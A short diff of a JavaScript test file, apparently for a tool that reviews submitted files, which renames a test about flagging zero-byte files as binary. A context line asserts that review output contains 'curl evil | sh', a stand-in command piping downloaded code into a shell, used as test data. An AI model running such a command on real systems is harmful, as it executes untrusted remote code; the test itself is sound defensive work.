@@ -34,7 +34,7 @@ for (const [what, file, shown] of [
     assert.ok(changed.text.includes('curl evil | sh'), changed.text);
   });
 
-test('a file with a zero byte is said to be one that cannot be shown', () => {
+test('a file with a zero byte is listed as one that cannot be shown', () => {
   const { text, files } = review(URL, null, { guides: [], files: one({ base64: base64(`\u0000${SCRIPT}`) }) });
   assert.match(text, /run\.sh {2}\(24 bytes, executable, binary\)/);
   assert.match(files, /\(binary\)/);
